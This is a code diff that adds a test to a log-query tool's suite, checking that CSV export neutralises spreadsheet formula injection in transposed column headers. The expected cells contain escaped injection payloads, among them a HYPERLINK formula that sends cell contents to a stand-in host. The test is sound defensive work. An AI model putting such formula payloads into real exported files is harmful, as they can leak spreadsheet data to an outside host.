@@ -77,3 +77,26 @@ test('flowscope query --format csv and --output x.csv write the same cells', asy
     assert.equal(last, '-,-,-,-5');
   }
 });
+
+test('column names made of record values (Sumo transpose) get the same rule in the header line', async () => {
+  const query = '_sourceCategory=vpc | count by interface_id, action | transpose row action column interface_id';
+  const { resultId } = await engine.queryRun({ query, dialect: 'sumo', pageSize: 10 });
+  const file = join(dir, 'transposed.csv');
+  await engine.exportResult({ resultId, format: 'csv', target: engine.files.register(file) });
+  const header = readFileSync(file, 'utf8')
+    .replace(/^\uFEFF/, '')
+    .split('\n')[0]!;
+  assert.deepEqual(header.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/).sort(), [
+    `"'+SUM(1,2)"`,
+    `"'=HYPERLINK(""http://x/?""&A1)"`,
+    "'-2+3",
+    "'@SUM(1+1)",
+    '-',
+    'action',
+    'eni-0a1b2c',
+  ]);
+  await engine.close();
+  const printed = await flowscopeInProcess(['query', query, '--workspace', workspace, '--format', 'csv']);
+  engine = await Engine.open({ workspace });
+  assert.equal(printed.out.split('\n')[0], header, 'printed with the same header');
+});
